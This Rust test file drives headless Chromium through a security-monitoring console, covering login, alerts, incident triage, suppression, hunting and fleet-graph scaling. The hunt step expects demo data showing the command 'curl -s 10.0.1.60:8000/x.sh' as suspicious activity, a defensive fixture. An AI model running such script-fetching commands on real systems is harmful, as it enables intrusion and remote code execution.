//! The console in a real browser: headless Chromium driven over WebDriver
//! walks login → overview → hosts → host → alert → incident graph →
//! acknowledge and assign → close as false positive with a suppression
//! (preview shown) → hunt → logout, asserting visible text and saving a PNG
//! of every page to `$ARTIFACTS` (default `target/ui-screenshots/`).
//!
//! Without `chromium`/`chromedriver` the test explains and passes, unless
//! `CI` is set, where it fails.

use fantoccini::{Client, ClientBuilder, Locator};
use hyper_util::client::legacy::connect::HttpConnector;
use std::path::PathBuf;
use std::process::Stdio;
use std::time::Duration;
use vigil_testkit::demo::{demo_state, DEMO_USERS};
use vigil_web_ui::store::ConsoleStore;

fn find_binary(env: &str, candidates: &[&str]) -> Option<PathBuf> {
    if let Ok(p) = std::env::var(env) {
        return Some(PathBuf::from(p));
    }
    candidates.iter().map(PathBuf::from).find(|p| p.exists())
}

fn artifacts_dir() -> PathBuf {
    match std::env::var_os("ARTIFACTS") {
        Some(d) => PathBuf::from(d),
        None => PathBuf::from(
            std::env::var_os("CARGO_MANIFEST_DIR")
                .unwrap_or_else(|| env!("CARGO_MANIFEST_DIR").into()),
        )
        .join("../target/ui-screenshots"),
    }
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

async fn wait_for_port(port: u16) {
    for _ in 0..100 {
        if tokio::net::TcpStream::connect(("127.0.0.1", port))
            .await
            .is_ok()
        {
            return;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("chromedriver did not listen on {port}");
}

struct Walk {
    c: Client,
    base: String,
    shots: PathBuf,
}

impl Walk {
    /// Visible text of the page (retried while a navigation swaps the document).
    async fn body(&self) -> String {
        for _ in 0..50 {
            if let Ok(body) = self.c.find(Locator::Css("body")).await {
                if let Ok(text) = body.text().await {
                    return text;
                }
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!("page body unreadable");
    }

    /// Waits (up to 10 s, for the navigation a click started) until every
    /// needle is visible text of the page.
    async fn expect(&self, needles: &[&str]) {
        let mut text = String::new();
        for _ in 0..100 {
            // Compared case-insensitively: headings are upper-cased by CSS.
            text = self.body().await.to_lowercase();
            if needles.iter().all(|n| text.contains(&n.to_lowercase())) {
                return;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let missing: Vec<_> = needles
            .iter()
            .filter(|n| !text.contains(&n.to_lowercase()))
            .collect();
        panic!(
            "expected {missing:?} on {}; page text:\n{text}",
            self.c.current_url().await.unwrap()
        );
    }

    /// Waits until the browser is at `path` (path and query).
    async fn at(&self, want: &str) {
        for _ in 0..100 {
            if self.path().await == want {
                return;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!(
            "expected to be at {want}, still at {}; page text:\n{}",
            self.path().await,
            self.body().await
        );
    }

    async fn shot(&self, name: &str) {
        let png = self.c.screenshot().await.unwrap();
        assert!(png.starts_with(b"\x89PNG"), "screenshot is a PNG");
        std::fs::write(self.shots.join(format!("{name}.png")), png).unwrap();
    }

    /// Finds an element, waiting up to 10 s for a navigation to finish.
    async fn find(&self, loc: Locator<'_>) -> fantoccini::elements::Element {
        let mut last = None;
        for _ in 0..100 {
            match self.c.find(loc).await {
                Ok(e) => return e,
                Err(e) => last = Some(e),
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!("{loc:?} not found on {}: {last:?}", self.path().await);
    }

    async fn click_link(&self, text: &str) {
        self.find(Locator::LinkText(text))
            .await
            .click()
            .await
            .unwrap();
    }

    async fn click_button(&self, text: &str) {
        let xp = format!("//button[normalize-space()='{text}']");
        self.find(Locator::XPath(&xp)).await.click().await.unwrap();
    }

    async fn select(&self, css: &str, value: &str) {
        self.find(Locator::Css(css))
            .await
            .select_by_value(value)
            .await
            .unwrap();
    }

    async fn fill(&self, css: &str, value: &str) {
        let el = self.find(Locator::Css(css)).await;
        el.clear().await.unwrap();
        el.send_keys(value).await.unwrap();
    }

    async fn path(&self) -> String {
        let u = self.c.current_url().await.unwrap();
        match u.query() {
            Some(q) => format!("{}?{q}", u.path()),
            None => u.path().to_string(),
        }
    }
}

/// A headless Chromium session over WebDriver, or `None` (with the reason
/// printed) when chromium/chromedriver are missing outside CI.
struct Browser {
    c: Client,
    chromedriver: tokio::process::Child,
    _profile: tempfile::TempDir,
}

async fn launch() -> Option<Browser> {
    let chromium = find_binary(
        "CHROMIUM",
        &[
            "/usr/bin/chromium",
            "/usr/bin/chromium-browser",
            "/usr/bin/google-chrome",
        ],
    );
    let driver = find_binary("CHROMEDRIVER", &["/usr/bin/chromedriver"]);
    let (Some(chromium), Some(driver)) = (chromium, driver) else {
        let msg = "chromium or chromedriver not found (install Debian `chromium` and `chromium-driver`, or set CHROMIUM/CHROMEDRIVER)";
        if std::env::var_os("CI").is_some() {
            panic!("{msg}");
        }
        eprintln!("skipping browser test: {msg}");
        return None;
    };
    let driver_port = free_port();
    let chromedriver = tokio::process::Command::new(&driver)
        .arg(format!("--port={driver_port}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("start chromedriver");
    wait_for_port(driver_port).await;

    let profile = tempfile::tempdir().unwrap();
    let mut caps = serde_json::Map::new();
    caps.insert(
        "goog:chromeOptions".into(),
        serde_json::json!({
            "binary": chromium,
            "args": [
                "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-quic",
                "--disable-dev-shm-usage", "--window-size=1440,1400", "--hide-scrollbars",
                format!("--user-data-dir={}", profile.path().display()),
            ]
        }),
    );
    let c = ClientBuilder::new(HttpConnector::new())
        .capabilities(caps)
        .connect(&format!("http://127.0.0.1:{driver_port}"))
        .await
        .expect("WebDriver session");
    Some(Browser {
        c,
        chromedriver,
        _profile: profile,
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn console_walk_through_in_headless_chromium() {
    let Some(Browser {
        c,
        mut chromedriver,
        _profile,
    }) = launch().await
    else {
        return;
    };
    let now = vigil_web_ui::system_now_ns();
    let (state, store) = demo_state(now).unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let app = vigil_web_ui::router(state);
    let server = tokio::spawn(async move { axum::serve(listener, app).await });

    let shots = artifacts_dir();
    std::fs::create_dir_all(&shots).unwrap();
    // `localhost` is a secure context, so the browser keeps our Secure cookies over plain HTTP.
    let w = Walk {
        c,
        base: format!("http://localhost:{port}"),
        shots,
    };

    // Login.
    w.c.goto(&format!("{}/", w.base)).await.unwrap();
    w.at("/login").await;
    w.expect(&["Sign in", "User name", "Password"]).await;
    w.shot("01-login").await;
    let (admin, _, pw) = DEMO_USERS[0];
    w.fill("input[name=username]", admin).await;
    w.fill("input[name=password]", "wrong-password").await;
    w.click_button("Sign in").await;
    w.expect(&["Wrong user name or password."]).await;
    w.fill("input[name=username]", admin).await;
    w.fill("input[name=password]", pw).await;
    w.click_button("Sign in").await;

    // Overview.
    w.at("/").await;
    w.expect(&[
        "Overview",
        "Sensors",
        "online",
        "stale",
        "offline",
        "events/s",
        "events lost",
        "Open alerts",
        "critical",
        "Latest open alerts",
        "Lateral movement: hr-laptop-05 → jump-06 → db-03",
        "Hosts needing attention",
        "dc-07",
    ])
    .await;
    w.shot("02-overview").await;

    // Hosts: list, search, open one.
    w.click_link("Hosts").await;
    w.expect(&["7 hosts", "web-01", "jump-06", "build-04", "stale"])
        .await;
    w.shot("03-hosts").await;
    w.fill("input[name=q]", "jump").await;
    w.click_button("Search").await;
    w.expect(&["1 hosts", "jump-06"]).await;
    assert!(!w.body().await.contains("web-01"));
    w.click_link("jump-06").await;
    w.expect(&[
        "jump-06",
        "Baseline status",
        "Outbound connections per hour",
        "Process tree",
        "Connections",
        "Logins",
        "svc-backup",
        "File changes",
        "Timeline",
        "cannot act on hosts",
    ])
    .await;
    w.find(Locator::Css("svg.chart polyline.series")).await;
    w.shot("04-host").await;

    // Alerts list and a single alert.
    w.click_link("Alerts").await;
    w.expect(&[
        "Alerts and incidents",
        "Burst of SSH authentication failures",
        "Rare binary executed",
    ])
    .await;
    w.shot("05-alerts").await;
    w.click_link("Burst of SSH authentication failures").await;
    w.expect(&[
        "Why this fired",
        "12 failed logins",
        "T1110.001",
        "Evidence events",
        "auth_failure",
    ])
    .await;
    w.shot("06-alert").await;

    // The incident: graph, explanation, acknowledge and assign.
    w.click_link("Alerts").await;
    w.click_link("Lateral movement: hr-laptop-05 → jump-06 → db-03")
        .await;
    w.expect(&[
        "Incident #101",
        "Lateral-movement path",
        "hr-laptop-05",
        "jump-06",
        "db-03",
        "never talked to",
        "Remote Services: SSH",
        "authorized_keys",
    ])
    .await;
    let hops =
        w.c.find_all(Locator::Css("svg.graph.path line.hop"))
            .await
            .unwrap();
    assert_eq!(hops.len(), 2, "A → B → C drawn as two hops");
    w.shot("07-incident").await;
    w.click_button("Acknowledge").await;
    w.expect(&["Alert acknowledged.", "acknowledged"]).await;
    w.select("select[name=assignee]", "ana").await;
    w.click_button("Assign").await;
    w.expect(&["Assignee saved."]).await;
    let t = store.triage(101).unwrap().unwrap();
    assert_eq!(t.assignee.as_deref(), Some("ana"));
    w.shot("08-incident-triaged").await;

    // Close a noisy alert as false positive and suppress its look-alikes.
    w.click_link("Alerts").await;
    w.click_link("Rare binary executed").await;
    w.select("select[name=verdict]", "false_positive").await;
    w.fill("input[name=note]", "Go test binaries on the CI runner")
        .await;
    w.click_button("Close").await;
    w.expect(&["Alert closed.", "closed: false positive"]).await;
    w.fill("input[name=reason]", "CI builds run fresh test binaries")
        .await;
    w.select("select[name=host]", "0000000000000a04").await;
    w.click_button("Preview suppression").await;
    w.expect(&[
        "Preview suppression",
        "This rule would have hidden 6 past alerts",
        "build-04",
        "Save suppression",
    ])
    .await;
    w.shot("09-suppression-preview").await;
    assert!(
        store.suppressions().unwrap().is_empty(),
        "nothing saved before confirming"
    );
    w.click_button("Save suppression").await;
    w.expect(&["Suppression saved."]).await;
    assert_eq!(store.suppressions().unwrap().len(), 1);

    // Fleet graph.
    w.click_link("Fleet graph").await;
    w.expect(&[
        "Fleet graph",
        "New edges in this window",
        "hr-laptop-05",
        "jump-06",
    ])
    .await;
    assert!(!w
        .c
        .find_all(Locator::Css("svg.graph.fleet line.edge.new"))
        .await
        .unwrap()
        .is_empty());
    w.shot("10-fleet-graph").await;

    // Hunt.
    w.click_link("Hunt").await;
    w.fill("input[name=user]", "svc-backup").await;
    w.click_button("Run hunt").await;
    w.expect(&[
        "events",
        "curl -s 10.0.1.60:8000/x.sh",
        "Export CSV",
        "db-03",
    ])
    .await;
    w.fill("input[name=name]", "svc-backup activity").await;
    w.click_button("Save hunt").await;
    w.expect(&["svc-backup activity"]).await;
    w.shot("11-hunt").await;

    // Audit log and settings.
    w.click_link("Audit log").await;
    w.expect(&[
        "Chain verified",
        "triage.ack",
        "triage.assign",
        "triage.close",
        "suppression.create",
        "hunt.save",
    ])
    .await;
    w.shot("12-audit").await;
    w.click_link("Settings").await;
    w.expect(&["Retention and detection", "Enrollment tokens"])
        .await;
    w.shot("13-settings").await;

    // Logout ends the session.
    w.click_button("Log out").await;
    w.at("/login").await;
    w.expect(&["Sign in"]).await;
    w.c.goto(&format!("{}/alerts", w.base)).await.unwrap();
    w.at("/login").await;

    w.c.close().await.unwrap();
    chromedriver.kill().await.ok();
    server.abort();
}

/// Serve `read` with the demo users' store on a port of its own.
async fn serve(
    read: vigil_testkit::MemoryReadApi,
    store: std::sync::Arc<vigil_testkit::MemoryConsoleStore>,
    now: u64,
) -> (u16, tokio::task::JoinHandle<std::io::Result<()>>) {
    let state = vigil_web_ui::ConsoleState::new(std::sync::Arc::new(read), store)
        .with_clock(std::sync::Arc::new(move || now));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let app = vigil_web_ui::router(state);
    (
        port,
        tokio::spawn(async move { axum::serve(listener, app).await }),
    )
}

/// Boxes of the fleet graph's labels that overlap (as the browser laid them
/// out), and how many labels there are.
const LABEL_OVERLAPS: &str = r#"
const r = [...document.querySelectorAll('svg.graph.fleet text')].map(t => t.getBoundingClientRect());
const bad = [];
for (let i = 0; i < r.length; i++) for (let j = i + 1; j < r.length; j++) {
  const a = r[i], b = r[j];
  if (a.left < b.right - 0.5 && b.left < a.right - 0.5 && a.top < b.bottom - 0.5 && b.top < a.bottom - 0.5) bad.push([i, j]);
}
return [r.length, bad.length];
"#;

/// Tile values wider than their tile's content box.
const CLIPPED_TILES: &str = r#"
return [...document.querySelectorAll('.kpi .v')].filter(v => {
  const p = v.parentElement, pr = p.getBoundingClientRect(), cs = getComputedStyle(p);
  const right = pr.right - parseFloat(cs.paddingRight) + 0.5;
  return v.scrollWidth > v.clientWidth + 0.5 || v.getBoundingClientRect().right > right;
}).map(v => v.textContent);
"#;

impl Walk {
    async fn js(&self, script: &str) -> serde_json::Value {
        self.c.execute(script, vec![]).await.unwrap()
    }

    /// The fleet graph's labels never overlap; returns how many there are.
    async fn labels_apart(&self) -> u64 {
        self.find(Locator::Css("svg.graph.fleet")).await;
        let v = self.js(LABEL_OVERLAPS).await;
        assert_eq!(v[1], 0, "overlapping labels on {}: {v}", self.path().await);
        v[0].as_u64().unwrap()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fleet_scale_in_headless_chromium() {
    let Some(Browser {
        c,
        mut chromedriver,
        _profile,
    }) = launch().await
    else {
        return;
    };
    let now = vigil_web_ui::system_now_ns();
    let (_, store) = demo_state(now).unwrap();
    // 60 hosts whose counters read 10^9: no tile may clip its number.
    let mut sixty = vigil_testkit::read_api::scaled_read_api(60, 20, now);
    sixty.stats.events_total = 1_000_000_000;
    sixty.stats.lost_total = 999_999_999;
    sixty.stats.events_per_s = 1_234_567.0;
    let (port60, server60) = serve(sixty, store.clone(), now).await;
    let big = vigil_testkit::read_api::scaled_read_api(10_000, 2, now);
    let (port10k, server10k) = serve(big, store.clone(), now).await;
    let shots = artifacts_dir();
    std::fs::create_dir_all(&shots).unwrap();
    let w = Walk {
        c,
        base: format!("http://localhost:{port60}"),
        shots,
    };
    w.c.goto(&format!("{}/login", w.base)).await.unwrap();
    let (admin, _, pw) = DEMO_USERS[0];
    w.fill("input[name=username]", admin).await;
    w.fill("input[name=password]", pw).await;
    w.click_button("Sign in").await;
    w.at("/").await;
    w.expect(&[
        "1.0G",
        "events stored",
        "1.0G",
        "1.2M",
        "Alerts per day by severity",
    ])
    .await;
    let clipped = w.js(CLIPPED_TILES).await;
    assert_eq!(clipped, serde_json::json!([]), "tiles clip their numbers");
    let exact = w
        .find(Locator::XPath("//span[@class='v' and text()='1.0G']"))
        .await
        .attr("title")
        .await
        .unwrap();
    assert_eq!(exact.as_deref(), Some("1\u{202f}000\u{202f}000\u{202f}000"));
    w.find(Locator::Css("svg.chart.trend g.bar rect")).await;
    w.shot("20-overview-1e9").await;

    // The fleet graph at 60 hosts: incidents highlighted, labels apart.
    w.c.goto(&format!("{}/graph?hours=168", w.base))
        .await
        .unwrap();
    w.expect(&[
        "Fleet graph",
        "Edges behind alerts",
        "New edges in this window",
    ])
    .await;
    assert!(!w
        .c
        .find_all(Locator::Css("svg.graph.fleet line.edge.alert"))
        .await
        .unwrap()
        .is_empty());
    assert!(w.labels_apart().await > 5);
    w.shot("21-fleet-graph-60").await;
    // Filters: a technique keeps only the edges behind its alerts.
    w.fill("input[name=technique]", "T1021").await;
    w.click_button("Apply").await;
    w.expect(&["Edges behind alerts"]).await;
    assert!(w.path().await.contains("technique=T1021"));
    let routine =
        w.c.find_all(Locator::Css("svg.graph.fleet line.edge:not(.alert)"))
            .await
            .unwrap();
    assert!(
        routine.is_empty(),
        "only alert edges under a technique filter"
    );
    w.labels_apart().await;
    // Click-through: a host node opens its page, an edge its hunt.
    let host_href = w
        .find(Locator::Css("svg.graph.fleet a[href^='/hosts/'] circle"))
        .await;
    host_href.click().await.unwrap();
    w.expect(&["Baseline status"]).await;
    assert!(w.path().await.starts_with("/hosts/"));
    w.c.goto(&format!("{}/graph?hours=168&technique=T1021", w.base))
        .await
        .unwrap();
    // The edge's own link (a click on a thin line can land on a crossing one).
    let edge_href = w
        .js("return document.querySelector('svg.graph.fleet line.edge.alert').parentElement.getAttribute('href');")
        .await;
    let edge_href = edge_href.as_str().unwrap().to_string();
    w.c.goto(&format!("{}{edge_href}", w.base)).await.unwrap();
    w.expect(&["Export CSV"]).await;
    assert!(w.path().await.starts_with("/hunt?host="));

    // 10,000 hosts: routine traffic folded into groups, still readable.
    let base10k = format!("http://localhost:{port10k}");
    w.c.goto(&format!("{base10k}/graph?hours=168"))
        .await
        .unwrap();
    w.expect(&["Fleet graph", "in groups"]).await;
    assert!(!w
        .c
        .find_all(Locator::Css("svg.graph.fleet circle.gnode.group"))
        .await
        .unwrap()
        .is_empty());
    let circles =
        w.c.find_all(Locator::Css("svg.graph.fleet circle"))
            .await
            .unwrap();
    assert!(circles.len() <= vigil_web_ui::fleet_graph::Limits::default().max_nodes());
    assert!(w.labels_apart().await > 5);
    w.shot("22-fleet-graph-10k").await;
    w.c.goto(&format!("{base10k}/hosts?sort=events&dir=desc&page=99"))
        .await
        .unwrap();
    w.expect(&["10000 hosts", "Page 100 of 100"]).await;
    w.shot("23-hosts-10k").await;

    w.c.close().await.unwrap();
    chromedriver.kill().await.ok();
    server60.abort();
    server10k.abort();
}
